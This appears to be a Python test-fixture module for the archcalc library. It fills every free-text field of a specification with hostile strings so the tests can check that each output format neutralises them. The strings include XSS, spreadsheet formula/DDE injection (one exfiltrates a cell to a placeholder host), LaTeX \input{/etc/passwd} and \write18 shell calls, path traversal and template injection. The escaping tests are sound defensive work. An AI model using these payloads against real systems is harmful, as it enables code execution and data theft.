r"""Texts that must stay texts: what a spec's titles, notes and names may hold, in any format.

`TEXTS` has one text per danger, `spec_of` puts one wherever a spec has free text, `Hostile` is a
table of such texts. A format passes when none of them has an effect: nothing runs, nothing is
fetched or included, no cell becomes a formula, and the surrounding markup stays intact.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

import archcalc
from archcalc.base.tables import Record, Table
from archcalc.language.graph import Net
from archcalc.language.spec.spec import Spec
from tests.zoo import few

TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onload=\"alert(1)\" ' onload='alert(1)'",
    "cdata": "]]></text></svg><!-- <![CDATA[ --> &lt; &#60; &amp;",
    "style": "</style></title><style>*{display:none}@import 'http://x.invalid/'</style>",
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"x")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula after a space": " \t=1+1",
    "formula after a quote": '"=1+1"',
    "formula after a line break": "x\n=1+1",
    "formula, wide": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "latex": r"\input{/etc/passwd}\write18{id}$\def\x{}$ % & # _ ^^5c ~",
    "latex end": r"}}\end{longtable}\end{document}\begin{verbatim}",
    "mathtext": r"$\frac{1}{ $x_ $",
    "pipe": "|cmd",
    "markdown": "[x](javascript:alert(1)) ![y](http://x.invalid/y.png) `z` | # *b* <http://x.invalid>",
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7} {0} {x} %s %(x)s",
    "yaml": "]}: - # & *a !!python/object {a: b}",
    "path": "../../../etc/passwd",
    "right to left": "abc\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe\N{RIGHT-TO-LEFT MARK} עברית",
    "control": "a\x00\x07\x1b[31m\x1b]0;x\x07b\x85c\u2028d\u200be\ufefff",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 é é ﷽ 深度可分离卷积 𝔘𝔫𝔦",
    "long": "m" * 10_000,
    "long, wide": "深" * 10_000,
    "long, special": "_%" * 5_000,
}
"""What is dangerous where, by what it is; none has more than the 10,000 characters of a text."""

FEW = ("script", "formula", "latex end", "control", "emoji", "long")
"""Texts that have little in common."""

MARKER = "hostile"
"""Stands in front of a text in places where an empty or a short one is to be found again."""


def few_texts(*more: str) -> list[Any]:
    """Return what the texts are by name; all but `FEW` and ``more`` as slow tests.

    For tests of what is built of escaped text; those of escaping see every text each time.
    """
    return few(TEXTS, *more, of=FEW)


def spec_of(text: str) -> Spec:
    """Return a small spec that holds ``text`` in every place where a text is free.

    Title, notes, errata, the paper and its address, a parameter's name and value, a block's name
    and a column's, claims with table and source, a pitfall, and the name of the file itself.
    """
    # what reads an operator cell takes brackets and commas for spaces
    block = " ".join(re.sub(r"[,()]", " ", f"{MARKER} {text}".replace("$", "S")).split())
    column = f"{MARKER} {text}"
    document = {
        "archcalc": 1,
        "name": MARKER,
        "title": text,
        "note": text,
        "paper": {"title": text, "arxiv": text, "table": text, "url": text},
        "input": "16x16x3",
        "params": {f"{MARKER} {text}": text, "k": 10},
        "rounding": {"method": "divisible"},
        "defaults": {"conv": {"bn": True, "act": "relu"}},
        "blocks": {
            block: {
                "columns": ["c", column],
                "note": text,
                # two layers: a row of one is called by that in a drawing
                "rows": [
                    {"id": "a", "op": "conv2d 3x3", "out": "$c", "note": text},
                    {"id": "b", "op": "conv2d 1x1", "out": "$c"},
                ],
            }
        },
        "columns": ["operator", "c", column],
        "rows": [
            ["conv2d 3x3", 8, None, {"id": "stem", "note": text, "erratum": text}],
            [block, 16, text.replace("$", "$$"), {"id": "block", "note": text, "erratum": text}],
            ["avgpool", None, None, {"global": True, "erratum": text}],
            ["fc", "$k", None, {"scale": False}],
        ],
        "claims": [
            {
                "label": text,
                "table": text,
                "from": text,
                "note": text,
                "params": "1M",
                "top1": "70.6",
                "latency": {f"{MARKER}{text}": "75"},
                "erratum": {"params": text},
            }
        ],
        "pitfalls": [{"what": text, "instead": {"convention": "paper:no_norm"}}],
    }
    return Spec.from_document(document, file=text)


def net_of(text: str) -> Net:
    """Return the net of `spec_of`."""
    return archcalc.build(spec_of(text))


@dataclass(frozen=True)
class Hostile(Table):
    """A table whose title, heads, cells, summary and notes are one text, beside true numbers."""

    text: str

    @property
    def title(self) -> str:
        return self.text

    def records(self) -> list[Record]:
        numbers = {"negative": -7, "share": -0.5, "nothing": None, "yes": True}
        return [{self.text: self.text, "name": f"{MARKER}{self.text}", **numbers}] * 2

    def to_dict(self) -> Record:
        return {"title": self.text, self.text: self.records()}

    def summary(self) -> list[str]:
        return [self.text]

    def notes(self) -> list[str]:
        return [self.text, f"erratum, {self.text}: {self.text}"]
